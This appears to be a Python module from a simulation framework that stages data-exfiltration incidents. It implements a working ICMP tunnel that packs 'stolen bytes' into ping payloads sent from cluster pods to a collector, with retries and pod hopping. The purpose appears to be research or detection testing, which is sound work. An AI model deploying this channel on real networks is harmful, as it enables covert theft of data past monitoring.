"""A leak in pings: the store sends echo requests whose payload is the data; the kernel of the collector answers them (RFC 792)."""

from __future__ import annotations

import asyncio
import socket
import struct
import time
from typing import Any

import numpy as np

from mimir.cluster.netns.application import Application
from mimir.cluster.netns.hosts import PodHost
from mimir.exfiltration.channels import icmp
from mimir.exfiltration.plan import Incident, stolen_bytes
from mimir.spec.exfiltration import IcmpSpec
from mimir.units import NS_PER_S

_REQUEST, _HEAD = 8, struct.Struct("!BBHHH")
_GAP_S, _CONFIRM_S, _TRIES = 0.02, 1.0, 5


def checksum(data: bytes) -> int:
    """The Internet checksum (RFC 1071).

    >>> checksum(bytes([0, 1, 0xF2, 3, 0xF4, 0xF5, 0xF6, 0xF7]))
    8717
    """
    total: int = sum(struct.unpack(f"!{(len(data) + 1) // 2}H", data + b"\0" * (len(data) % 2)))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


class Echoes:
    """One incident in pings. A payload that the collector did not see is sent again."""

    def __init__(self, spec: IcmpSpec, application: Application, incident: Incident, random: np.random.Generator):
        self.incident, self._spec, self._it, self._random = incident, spec, application, random
        self._session = int(random.integers(1 << 16))
        stores = application.hosts.of(incident.path[0])
        self._store: PodHost = stores[int(random.integers(len(stores)))]
        self.left: list[tuple[float, bytes]] = []
        self.arrived: list[tuple[float, bytes]] = []
        self._seen: set[bytes] = set()
        self.replaced: list[dict[str, Any]] = []  #: as of `Relay`

    @property
    def pods(self) -> tuple[str, ...]:
        """The store's pod."""
        return (self._store.pod.name, "")

    def gone(self, host: PodHost) -> None:
        """A pod's process has ended: the next payload leaves another one."""

    async def run(self) -> None:
        """Send every payload."""
        sink, loop, sequence = self._it.layout.cluster.addresses.sink, asyncio.get_running_loop(), 0
        self._store = await self._it.hosts.another(self._store, self._random)  # nothing left it yet
        with self._it.hosts.outside.raw_icmp() as ear:
            listening = asyncio.ensure_future(self._listen(ear))
            try:
                for at, data in zip(self.incident.message_ns.tolist(), stolen_bytes(self.incident), strict=True):
                    await asyncio.sleep(max(0.0, (at - time.time_ns()) / NS_PER_S))
                    self.left.append((time.time(), data))
                    for payload in icmp.encode(data, self._spec, self._session, sequence):
                        sequence += 1
                        await self._send(loop, payload, sequence, sink)
                        await asyncio.sleep(_GAP_S)
            finally:
                listening.cancel()

    async def _stay(self) -> None:
        """Be in a pod that lives."""
        store = await self._it.hosts.another(self._store, self._random)
        if store is not self._store:
            self.replaced.append(self._it.hosts.replaced(self._store))
        self._store = store

    async def _send(self, loop: asyncio.AbstractEventLoop, payload: bytes, sequence: int, sink: str) -> None:
        for _ in range(_TRIES):
            await self._stay()
            with self._store.raw_icmp() as mouth:
                bare = _HEAD.pack(_REQUEST, 0, 0, self._session, sequence & 0xFFFF) + payload
                head = _HEAD.pack(_REQUEST, 0, checksum(bare), self._session, sequence & 0xFFFF)
                await loop.sock_sendto(mouth, head + payload, (sink, 0))
            until = time.monotonic() + _CONFIRM_S
            while time.monotonic() < until:
                if payload in self._seen:
                    return
                await asyncio.sleep(0.002)

    async def _listen(self, ear: socket.socket) -> None:
        loop = asyncio.get_running_loop()
        while True:
            packet = await loop.sock_recv(ear, 65536)
            message = packet[(packet[0] & 15) * 4 :]
            payload = message[_HEAD.size :]
            mine = message[0] == _REQUEST and payload[:2] == self._session.to_bytes(2)
            if mine and payload not in self._seen:
                self._seen.add(payload)
                self.arrived.append((time.time(), icmp.decode([payload])))
